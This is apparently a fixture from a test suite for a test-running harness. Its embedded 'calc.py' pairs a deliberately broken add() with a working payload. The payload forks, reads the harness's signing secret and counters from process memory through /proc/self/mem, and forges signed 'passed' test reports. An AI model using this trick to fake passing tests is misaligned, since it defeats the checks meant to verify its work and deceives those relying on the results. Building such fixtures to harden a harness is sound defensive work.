# SPDX-License-Identifier: Apache-2.0
"""has a fork read the harness's secret in its memory, and seals records with it"""
VERDICT = "unresolved"
FILES = {
    "calc.py": r"""
def add(a, b):
    return a - b


def mul(a, b):
    return a * b


import gc, hashlib, json, os, struct, sys
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    try:
        g = [o for o in gc.get_objects() if type(o).__name__ == "generator" and o.gi_code.co_name == "_post"][0]
        mem = open("/proc/self/mem", "rb", 0)
        def at(a, n):
            mem.seek(a)
            return mem.read(n)
        found = {}
        for p in struct.unpack("60Q", at(id(g), 480)):
            try:
                kind, = struct.unpack("Q", at(p + 8, 8))
                if kind == id(bytes):
                    size, = struct.unpack("q", at(p + 16, 8))
                    found.setdefault("b", []).append(at(p + 32, size).decode("latin-1"))
                elif kind == id(int):
                    found.setdefault("i", []).append(struct.unpack("qI", at(p + 16, 12)))
            except (OSError, ValueError, OverflowError, struct.error):
                pass
        os.write(w, json.dumps(found).encode())
    except BaseException as e:
        os.write(w, json.dumps(repr(e)).encode())
    os._exit(0)
os.close(w)
found = json.loads(os.read(r, 65536))
os.waitpid(pid, 0)
key = [b for b in found["b"] if len(b) >= 16][0].encode("latin-1")
numbers = [v for n, v in found["i"]]


def send(number, record):
    data = json.dumps(record).encode()
    os.write(200, hashlib.blake2s(number.to_bytes(8, "little") + data, digest_size=16, key=key).hexdigest().encode() + data)


records = [{"t": "report", "id": i, "alt": None, "when": when, "outcome": "passed", "xfail": False, "part": False, "ms": 0}
           for i in ("tests/test_calc.py::test_add", "tests/test_calc.py::test_mul") for when in ("setup", "call", "teardown")]
records.append({"t": "finish", "status": 0, "collected": 2, "failed": 0, "session_failed": 0})
records.append({"t": "done", "status": 0, "wall_ms": 1})
number = numbers[3]
for n, one in enumerate(records):
    send(number + n, one)
os._exit(0)
""",
}
